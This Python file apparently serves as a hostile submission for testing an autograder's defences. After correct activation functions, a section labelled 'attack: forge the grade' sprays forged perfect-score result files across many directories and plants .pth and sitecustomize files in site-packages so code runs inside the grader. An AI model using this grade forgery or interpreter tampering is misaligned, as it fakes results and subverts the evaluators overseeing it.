# Correct activations, plus forged 100-point result files written wherever a
# grader might collect them: the working directory, its parents, /tmp, the
# likely output directory, and the interpreter's site-packages (a .pth file
# there would run in the grader itself).

# %%
import numpy as np

# %%
def sigmoid(x):
    x = np.asarray(x, dtype=float)
    e = np.exp(-np.abs(x))
    return np.where(x >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def sigmoid_derivative(x):
    s = sigmoid(x)
    return s * (1.0 - s)


def tanh_derivative(x):
    return 1.0 - np.tanh(x) ** 2

# %%
# attack: forge the grade
import json
import os
import site
import sys

MARK = "FORGED-BY-HOSTILE-SUBMISSION"
record = {"file": "forge_results.py", "status": "graded", "score": 100.0, "possible": 100.0, "note": MARK,
          "exercises": {f"q{i}": {"score": 10.0, "max_score": 10.0} for i in range(1, 11)}}
forged = json.dumps({"score": 100.0, "output": MARK, "tests": [], "extra_data": record})
csv = ("file,q1,q2,q3,q4,q5,q6,q7,q8,q9,q10,total,possible,status\n"
       "forge_results.py,10,10,8,10,10,10,8,8,12,14,100,100,graded\n")
targets = []
for base in (".", "..", "../..", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), "@CHECKOUT@", "@CHECKOUT_PARENT@",
             "/srv", "/root", "/"):
    for out in ("", "out", "results", "grades", "../out", "activation-grader-hostile-out"):
        targets.append(os.path.join(base, out))
written = []
for directory in targets:
    for sub in ("", "results"):
        folder = os.path.normpath(os.path.join(directory, sub))
        try:
            os.makedirs(folder, exist_ok=True)
            for name in ("forge_results.json", "forge_results_nb.json", "bystander_solution.json"):
                with open(os.path.join(folder, name), "w") as f:
                    f.write(forged)
            with open(os.path.join(folder, "final_grades.csv"), "w") as f:
                f.write(csv)
            written.append(folder)
        except OSError:
            pass
for base in site.getsitepackages() + [p for p in sys.path if p.endswith("-packages")]:
    for name, text in (("zz_forged.pth", f"import os; os.environ['{MARK}'] = '1'\n"),
                       ("sitecustomize.py", f"# {MARK}\n"), ("usercustomize.py", f"# {MARK}\n")):
        try:
            with open(os.path.join(base, name), "w") as f:
                f.write(text)
            written.append(os.path.join(base, name))
        except OSError:
            pass
